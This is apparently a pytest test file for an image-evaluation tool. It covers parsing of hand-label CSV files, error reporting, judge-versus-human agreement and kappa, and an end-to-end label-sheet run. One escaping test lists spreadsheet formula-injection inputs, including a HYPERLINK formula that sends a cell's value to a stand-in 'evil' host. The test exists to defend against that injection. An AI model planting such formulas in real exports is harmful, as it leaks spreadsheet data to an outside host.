import csv
import hashlib
import io
import re
from collections.abc import Mapping
from pathlib import Path
from typing import Any

import numpy as np
import pytest

from stages import compute_scores, measure_judge
from tests.support.projects.synthetic_study import write_project
from zimage_eval.cli.commands import main
from zimage_eval.config.measuring import PinnedFile
from zimage_eval.metrics.judges.errors import SharedFact, judge_errors, judge_results, shared_facts
from zimage_eval.metrics.judges.hand_labels import (
    HandLabels,
    describe_unmatched,
    read_hand_labels,
)
from zimage_eval.metrics.judges.judges import Picture, hand_judge
from zimage_eval.metrics.judges.label_sheets import as_text_cell, questions
from zimage_eval.output.results import read_results
from zimage_eval.output.tables import FACTS, read_table
from zimage_eval.prompts.facts import Facts, ObjectFact, RelationFact

A, B = "0123456789abcdef", "fedcba9876543210"
FACTS_OF_TWO = Facts(
    objects=(ObjectFact(name="cup", color="red", count=2), ObjectFact(name="bowl")),
    relations=(RelationFact(subject=0, relation="left_of", object=1),),
    background="beach",
)


def pinned(path: Path) -> PinnedFile:
    return PinnedFile(path=str(path), sha256=hashlib.sha256(path.read_bytes()).hexdigest())


def written(folder: Path, *lines: str) -> PinnedFile:
    path = folder / "labels.csv"
    path.write_text("\n".join(["image,fact,held,note", *lines]) + "\n")
    return pinned(path)


def test_labels_are_read_by_picture_and_fact(tmp_path: Path) -> None:
    file = written(
        tmp_path, f"{A},color 0,yes,", f"{A},background,NO,x", f"{B},color 0,,", f"{A},color 0,yes,"
    )
    assert read_hand_labels(file) == {A: {"color 0": True, "background": False}}


def test_what_spreadsheets_save_is_read(tmp_path: Path) -> None:
    path = tmp_path / "labels.csv"
    lines = ["question,held,image,fact", f'"Is it, so?",Yes ,{A},color 0', ",,,"]
    for start, end in ((b"", "\n"), (b"\xef\xbb\xbf", "\r\n")):
        path.write_bytes(start + end.join(lines).encode())
        assert read_hand_labels(pinned(path)) == {A: {"color 0": True}}


@pytest.mark.parametrize(
    ("lines", "words"),
    [
        ([f"{A},color 0,perhaps,"], r":2: held: 'perhaps'"),
        ([f"{A},color 0,yes,", f"{A},colour 0,yes,"], r":3: fact: 'colour', did you mean 'color'"),
        ([f"{A},Shape 0,yes,"], r":2: fact: 'Shape', did you mean 'shape'"),
        ([f"{A},,yes,"], r":2: fact: ''; allowed: shape, color"),
        ([f"{A},color x,yes,"], "'x' is no index"),
        ([f"{A},color 00,yes,"], "'00' is no index"),
        ([f"{A},color 0 ,yes,"], "'0 ' is no index"),
        ([f"{A},color ٣,yes,"], "'٣' is no index"),
        ([f"{A},color {'9' * 5000},yes,"], "is no index"),
        ([f"{A},shape,yes,"], r":2: fact 'shape': of which object or relation\? like shape 0"),
        ([f"{A},relation,,"], r":2: fact 'relation': of which"),
        ([f"{A},background 0,yes,"], ":2: fact 'background 0': background is of the whole"),
        ([f"{A},color 0,yes,", f"{A},color 0,no,"], rf":3: {A} color 0 was labeled otherwise"),
        *(
            ([f"{B},color 0,,", f"{image},color 0,{held},"], rf":3: image: '{shown}' is not 16 hex")
            for held in ("yes", "")
            for image, shown in (
                ("1.23457E+15", r"1\.23457E\+15"),
                (f" {A} ", f" {A} "),
                (A.upper(), A.upper()),
                ("", ""),
                (A[:15], A[:15]),
                (A + "0", A + "0"),
                ("1234567890123456.0", r"1234567890123456\.0"),
                ("g" * 16, "g" * 16),
            )
        ),
        ([f"{A},color 0"], ":2: 2 fields, the header has 4"),
        ([f"{A},color 0,yes,Is it, so?"], ":2: 5 fields, the header has 4"),
        ([f'{A},color 0,yes,"an open quote', f"{B},color 0,yes,"], ":2: unexpected end of data"),
        ([f"{A},color 0,yes,{'x' * 131_073}"], ":2: field larger than field limit"),
    ],
)
def test_a_line_that_is_none_is_named(tmp_path: Path, lines: list[str], words: str) -> None:
    with pytest.raises(ValueError, match=rf"^{tmp_path}/labels\.csv.*{words}"):
        read_hand_labels(written(tmp_path, *lines))


@pytest.mark.parametrize(
    ("content", "words"),
    [
        (b"", "no column fact, held, image$"),
        (b"image;fact;held\n", "no column fact, held, image; fields are parted by a comma, not by"),
        (b"image\tfact\theld\n", "no column .* not by '.t'"),
        (b"image,fact,held,held\n", "column held stands twice"),
        (b"image,fact,held,note\n,,,\n,,,caf\xe9\n", "not UTF-8: byte 0xe9"),
        ("image,fact,held\n".encode("utf-16"), "not UTF-8: UTF-16"),
    ],
)
def test_a_file_that_is_none_is_named(tmp_path: Path, content: bytes, words: str) -> None:
    path = tmp_path / "labels.csv"
    path.write_bytes(content)
    with pytest.raises(ValueError, match=rf"^{path}:.*{words}"):
        read_hand_labels(pinned(path))


def test_labels_of_no_picture_and_no_fact_are_counted() -> None:
    labels: HandLabels = {A: {"color 0": True, "shape 99": False}, B: {"style": True}}
    rows = [{"image": A, "fact": fact} for fact in ("color 0", "shape 0")]
    assert describe_unmatched(labels, rows) == (
        f"hand labels: 1 of 2 labeled pictures are in no study, the first {B}; "
        f"1 of 3 labels are of facts that were not judged, the first {A} shape 99"
    )
    assert describe_unmatched({A: {"color 0": True}}, rows) is None
    assert describe_unmatched({}, []) is None


@pytest.mark.parametrize(
    "text",
    [
        *('=HYPERLINK("http://evil/?"&A1,"x")', "+1", "-1 + 2", "@SUM(A1)", "\t=1", "\r=1", "\n=1"),
        *("'=1", "''=1", "\uff1d1", "a = b", "'Tis a cup", "", "'"),
    ],
)
def test_no_cell_of_a_sheet_is_computed_and_every_text_comes_back(text: str) -> None:
    cell = as_text_cell(text)
    assert not cell or cell[0] not in "=+-@\t\r\n\uff1d\uff0b\uff0d\uff20"
    buffer = io.StringIO()
    csv.writer(buffer).writerow([cell])
    [[again]] = csv.reader(io.StringIO(buffer.getvalue(), newline="")) if cell else [[""]]
    assert (again[1:] if re.match(r"'+[=+@\t\r\n\uff1d-]", again) else again) == text
    assert cell == text or text.lstrip("'")[:1] in "=+-@\t\r\n\uff1d\uff0b\uff0d\uff20"


def test_another_file_than_declared_is_refused(tmp_path: Path) -> None:
    file = written(tmp_path, f"{A},color 0,yes,")
    written(tmp_path, f"{A},color 0,no,")
    with pytest.raises(ValueError, match=r"hand_labels: .* declared is"):
        read_hand_labels(file)
    with pytest.raises(ValueError, match="no such file"):
        read_hand_labels(PinnedFile(path=str(tmp_path / "none.csv"), sha256="0" * 64))
    (tmp_path / "other.csv").write_text("image,held\naa,yes\n")
    with pytest.raises(ValueError, match="no column fact"):
        read_hand_labels(pinned(tmp_path / "other.csv"))


def test_people_are_a_judge_of_what_they_labeled() -> None:
    judge = hand_judge({"aa": {"color 0": True, "background": False}})
    pixels = np.zeros((2, 2, 3), dtype=np.uint8)
    results = judge(Picture(pixels, "aa"), FACTS_OF_TWO)
    assert results is not None
    assert {(r.name, r.kind, r.held) for r in results} == {
        ("color 0", "color", True),
        ("background", "background", False),
    }
    assert judge(Picture(pixels, "bb"), FACTS_OF_TWO) is None


def shared(**counts: int) -> list[SharedFact]:
    """Facts of one picture each."""
    pairs = {
        "both": (True, True),
        "judge": (True, False),
        "hand": (False, True),
        "none": (False,) * 2,
    }
    return [
        SharedFact(f"{name}{index}", "color", *pairs[name])
        for name, count in counts.items()
        for index in range(count)
    ]


def test_confusion_agreement_and_kappa_by_hand() -> None:
    """Agreement 0.7, expected 0.5 by chance: kappa 0.4 (the textbook's example)."""
    error = judge_errors(shared(both=20, judge=5, hand=10, none=15))["color"]
    assert (error.both_held, error.judge_alone, error.hand_alone, error.neither_held) == (
        20,
        5,
        10,
        15,
    )
    assert (error.num_images, error.num_facts) == (50, 50)
    assert error.agreement.mean == pytest.approx(0.7)
    assert error.kappa == pytest.approx(0.4)
    assert error.agreement.low is not None and error.agreement.high is not None
    assert error.agreement.low < 0.6 and error.agreement.high > 0.8


def test_a_judge_that_always_agrees_is_not_known_to_be_perfect() -> None:
    error = judge_errors(shared(both=30, none=30))["all"]
    assert error.agreement.mean == 1 and error.kappa == pytest.approx(1)
    assert error.agreement.low is not None and error.agreement.low < 1
    constant = judge_errors(shared(both=30))["all"]
    assert constant.kappa is None and constant.agreement.mean == 1


def test_facts_of_one_picture_count_as_one() -> None:
    facts = [SharedFact("x", "color", True, index < 1) for index in range(4)]
    facts += [SharedFact(f"y{index}", "shape", True, True) for index in range(7)]
    errors = judge_errors(facts)
    assert errors["all"].agreement.num_prompts == 8
    assert errors["all"].agreement.mean == pytest.approx((0.25 + 7) / 8)
    assert set(errors) == {"all", "color", "shape"}
    assert errors["color"].agreement.low is None  # one picture


def test_without_labels_there_is_no_agreement() -> None:
    assert judge_results(judge_errors([]))["all"] | {"kappa": None} == {
        "num_images": 0,
        "num_facts": 0,
        **dict.fromkeys(("both_held", "judge_alone", "hand_alone", "neither_held"), 0),
        **dict.fromkeys(("agreement", "agreement_low", "agreement_high", "kappa")),
    }


def test_a_picture_of_several_studies_counts_once() -> None:
    row = {"image": "aa", "fact": "color 1", "held": True}
    labels: HandLabels = {"aa": {"color 1": False, "shape 0": True}}
    assert shared_facts([row, row | {"variant": "other"}], labels) == [
        SharedFact("aa", "color", True, False)
    ]


def test_every_stated_fact_is_asked() -> None:
    assert [question.fact for question in questions(FACTS_OF_TWO)] == [
        "shape 0",
        "color 0",
        "count 0",
        "shape 1",
        "count 1",
        "relation 0",
        "background",
    ]


def answers(folder: Path, table: list[Mapping[str, Any]]) -> str:
    """The sheet filled in by somebody who agrees with the judge, but for the colors."""
    said = {(row["image"], row["fact"]): row["held"] for row in table}
    text = io.StringIO()
    writer = csv.writer(text, lineterminator="\n")
    for line in csv.reader(io.StringIO((folder / "sheet.csv").read_text())):
        if line[0] != "image":
            held = said.get((line[0], line[1]))
            wrong = line[1].startswith("color")
            line[2] = "" if held is None else "yes" if held != wrong else "no"
        writer.writerow(line)
    return text.getvalue()


def test_from_sheet_to_error(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    write_project(tmp_path, num_prompts={"screen": 16, "confirm": 4})
    monkeypatch.chdir(tmp_path)
    monkeypatch.setenv("ZIMAGE_EVAL_STORE", "off")
    for study in ("baseline", "hidden_layer"):
        compute_scores.main(study)
    measure_judge.main()
    none = read_results(Path("reports/judge.json"))["judge"]
    assert set(none) == {"all"} and none["all"]["num_images"] == 0

    capsys.readouterr()
    arguments = [
        "data/images/hidden_layer",
        "data/prompts/main/screen.parquet",
        "--num-images",
        "20",
    ]
    assert main(["label-sheet", *arguments, "--seed", "0"]) == 0
    (tmp_path / "sheet.csv").write_text(capsys.readouterr().out)
    table = read_table(Path("data/facts/hidden_layer.parquet"), FACTS).to_pylist()
    labels = tmp_path / "labels.csv"
    labels.write_text(answers(tmp_path, table))
    model = tmp_path / "models/drawn.yaml"
    declared = pinned(labels).model_dump_json()
    model.write_text(model.read_text().replace("hand_labels: null", f"hand_labels: {declared}"))
    measure_judge.main()
    assert "hand labels" not in capsys.readouterr().out  # every label has its picture and fact
    with labels.open("a") as file:
        file.write(f"{A},style,yes,,,\n")
    model.write_text(model.read_text().replace(declared, pinned(labels).model_dump_json()))
    measure_judge.main()
    assert re.search(rf"1 of \d+ labeled pictures .* first {A}", capsys.readouterr().out)
    found = read_results(Path("reports/judge.json"))["judge"]
    assert 10 <= found["all"]["num_images"] <= 20  # type: ignore[operator]
    assert found["shape"]["agreement"] == found["background"]["agreement"] == 1
    assert found["color"]["agreement"] == 0
    assert 0 < found["all"]["agreement"] < 1  # type: ignore[operator]
    assert main(["label-sheet", *arguments[:3], "9999", "--seed", "0"]) == 1
    assert "9999 pictures are asked for" in capsys.readouterr().err
